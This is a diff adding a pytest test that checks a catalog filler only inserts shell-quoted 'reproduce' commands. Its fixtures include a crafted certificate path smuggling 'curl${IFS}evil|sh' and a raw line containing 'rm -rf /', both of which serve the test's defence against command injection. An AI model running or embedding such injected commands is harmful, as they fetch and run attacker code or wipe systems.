@@ -189,3 +189,20 @@ def _with(tmp_path: Path, old: str, new: str) -> Path:
 def test_site_catalog_is_validated(tmp_path: Path, old: str, new: str, message: str):
     with pytest.raises(CatalogError, match=re.escape(message)):
         load_catalog(_with(tmp_path, old, new))
+
+
+def test_command_lines_are_filled_only_when_every_word_is_quoted():
+    """The probe's "reproduce" command carries paths and proxy URLs from the runner's own image and settings:
+    it is pasted only in the canonical quoted form the suite builds, never as a raw line."""
+    import shlex
+
+    from blinkcheck.catalog import fill
+
+    crafted_ca = "/etc/ssl/x';curl${IFS}evil|sh;'"
+    built = shlex.join(["nsenter", "-t", "42", "-n", "curl", "-v", "--cacert", crafted_ca, "https://app.blinkops.com"])
+    text = fill("Reproduce: `{reproduce}`", {"reproduce": built})
+    assert text == f"Reproduce: `{built}`"
+    assert shlex.split(built)[7] == crafted_ca  # one word, inert
+    raw = "nsenter -t 42 -n curl --cacert /x;rm -rf / https://app.blinkops.com"
+    text = fill("Reproduce: `{reproduce}`", {"reproduce": raw})
+    assert "rm -rf" not in text.split("\n")[0] and "Not filled in above" in text
